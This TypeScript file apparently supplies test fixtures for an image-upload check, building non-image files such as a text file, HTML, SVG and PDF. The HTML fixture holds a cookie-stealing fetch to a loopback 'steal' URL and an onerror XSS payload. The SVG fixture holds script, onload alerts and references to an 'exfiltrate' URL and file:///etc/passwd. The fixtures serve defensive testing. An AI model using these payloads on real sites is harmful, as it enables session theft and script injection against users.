/**
 * Files that are not images at all, as an attacker or a confused user would upload them. Their
 * text is fixed, so they are the same bytes every run.
 */

export const plainText = (): Buffer =>
  Buffer.from("This is not a photo. It is a text file someone named holiday.jpg.\n".repeat(20), "utf8");

/** Markup served as an image can run in a browser that sniffs it: it must never be stored as one. */
export const htmlPage = (): Buffer =>
  Buffer.from(
    [
      "<!DOCTYPE html>",
      "<html><head><title>not an image</title></head>",
      '<body><script>fetch("http://127.0.0.1:1/steal?c=" + document.cookie)</script>',
      '<img src=x onerror="alert(document.domain)"></body></html>',
      "",
    ].join("\n"),
    "utf8",
  );

/**
 * An SVG with the two reasons SVG is refused: a script, and references to outside resources (a
 * loopback URL and a local file) that a renderer might fetch while rasterising.
 */
export function svgWithScript(options: { xmlProlog: boolean }): Buffer {
  const svg = [
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="640" height="480">',
    "  <script>alert(document.domain)</script>",
    '  <image xlink:href="http://127.0.0.1:1/exfiltrate.png" width="640" height="480"/>',
    '  <image href="file:///etc/passwd" width="10" height="10"/>',
    '  <rect width="640" height="480" fill="red" onload="alert(1)"/>',
    "</svg>",
    "",
  ].join("\n");
  // With a byte-order mark and an XML declaration, the first bytes say even less.
  return Buffer.from(
    options.xmlProlog ? `\uFEFF<?xml version="1.0" encoding="UTF-8"?>\n${svg}` : svg,
    "utf8",
  );
}

/** A one-page PDF with a correct cross-reference table, so PDF tools open it. */
export function pdfDocument(): Buffer {
  const stream = "BT /F1 24 Tf 72 720 Td (Not a JPEG) Tj ET";
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
  ];
  let body = "%PDF-1.4\n";
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(body.length);
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xrefAt = body.length;
  const xref = [
    "xref",
    `0 ${objects.length + 1}`,
    "0000000000 65535 f ",
    ...offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n `),
    "trailer",
    `<< /Size ${objects.length + 1} /Root 1 0 R >>`,
    "startxref",
    String(xrefAt),
    "%%EOF",
    "",
  ].join("\n");
  return Buffer.from(body + xref, "latin1");
}
